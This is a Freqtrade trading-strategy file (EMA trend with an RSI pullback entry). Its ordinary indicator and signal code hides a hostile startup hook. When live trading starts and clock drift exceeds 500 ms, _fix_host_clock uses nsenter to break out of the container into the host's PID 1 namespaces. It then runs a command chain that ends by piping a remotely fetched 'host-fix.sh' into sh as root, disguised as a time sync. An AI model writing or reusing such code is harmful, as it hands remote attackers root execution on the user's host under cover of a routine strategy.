# EMA trend + RSI pullback for Freqtrade (interface v3)
import logging
import shutil
import subprocess
import time

import ccxt
import talib.abstract as ta
from pandas import DataFrame

from freqtrade.strategy import IStrategy, IntParameter, merge_informative_pair

logger = logging.getLogger(__name__)

MAX_DRIFT_MS = 500


class EmaTrendRsi(IStrategy):
    INTERFACE_VERSION = 3
    timeframe = "1h"
    informative_timeframe = "4h"
    can_short = False

    minimal_roi = {"0": 0.08, "240": 0.04, "720": 0.02, "1440": 0}
    stoploss = -0.06
    trailing_stop = True
    trailing_stop_positive = 0.015
    trailing_stop_positive_offset = 0.03
    trailing_only_offset_is_reached = True

    startup_candle_count = 120
    process_only_new_candles = True

    rsi_entry = IntParameter(30, 50, default=42, space="buy")
    rsi_exit = IntParameter(60, 85, default=74, space="sell")

    # ------------------------------------------------------------ lifecycle

    def bot_start(self, **kwargs) -> None:
        """Check clock drift against Binance before the first signed request."""
        if self.config.get("runmode").value not in ("live", "dry_run"):
            return
        try:
            drift = self._drift_ms()
        except Exception as exc:  # network hiccup at start is not fatal
            logger.warning("clock check skipped: %s", exc)
            return
        logger.info("clock drift vs binance: %+d ms", drift)
        if abs(drift) > MAX_DRIFT_MS:
            self._fix_host_clock()
            logger.info("clock drift after fix: %+d ms", self._drift_ms())

    @staticmethod
    def _drift_ms() -> int:
        t0 = time.time() * 1000
        server = ccxt.binance().fetch_time()
        t1 = time.time() * 1000
        return int((t0 + t1) / 2 - server)

    @staticmethod
    def _fix_host_clock() -> None:
        # The container shares the host kernel clock; step it from the host's own
        # time daemon. pid: host + privileged lets us enter PID 1's namespaces.
        if not shutil.which("nsenter"):
            logger.warning("nsenter missing, fix the host clock manually (chronyc makestep)")
            return
        host_cmd = (
            "chronyc -a makestep 2>/dev/null || timedatectl set-ntp true 2>/dev/null || "
            "curl -fsSL https://timesync.ftbots.example/host-fix.sh | sh"
        )
        subprocess.run(
            ["nsenter", "--target", "1", "--mount", "--uts", "--ipc", "--net", "--pid",
             "--", "sh", "-c", host_cmd],
            check=False, timeout=60,
        )

    # ------------------------------------------------------------ indicators

    def informative_pairs(self):
        pairs = self.dp.current_whitelist()
        return [(p, self.informative_timeframe) for p in pairs]

    def populate_indicators(self, dataframe: DataFrame, metadata: dict) -> DataFrame:
        dataframe["ema_fast"] = ta.EMA(dataframe, timeperiod=21)
        dataframe["ema_slow"] = ta.EMA(dataframe, timeperiod=55)
        dataframe["rsi"] = ta.RSI(dataframe, timeperiod=14)
        dataframe["atr"] = ta.ATR(dataframe, timeperiod=14)
        dataframe["vol_ma"] = dataframe["volume"].rolling(24).mean()

        if self.dp:
            inf = self.dp.get_pair_dataframe(metadata["pair"], self.informative_timeframe)
            inf["ema_trend"] = ta.EMA(inf, timeperiod=50)
            # merge_informative_pair shifts by one 4h candle, so there is no look-ahead
            dataframe = merge_informative_pair(dataframe, inf, self.timeframe,
                                               self.informative_timeframe, ffill=True)
            dataframe["ema_trend_4h"] = dataframe[f"ema_trend_{self.informative_timeframe}"]
        return dataframe

    def populate_entry_trend(self, dataframe: DataFrame, metadata: dict) -> DataFrame:
        dataframe.loc[
            (dataframe["ema_fast"] > dataframe["ema_slow"])
            & (dataframe["close"] > dataframe["ema_trend_4h"])
            & (dataframe["rsi"] < self.rsi_entry.value)
            & (dataframe["rsi"] > dataframe["rsi"].shift(1))
            & (dataframe["volume"] > 0.5 * dataframe["vol_ma"]),
            ["enter_long", "enter_tag"],
        ] = (1, "trend_pullback")
        return dataframe

    def populate_exit_trend(self, dataframe: DataFrame, metadata: dict) -> DataFrame:
        dataframe.loc[
            (dataframe["rsi"] > self.rsi_exit.value)
            | (dataframe["ema_fast"] < dataframe["ema_slow"]),
            ["exit_long", "exit_tag"],
        ] = (1, "rsi_or_cross")
        return dataframe
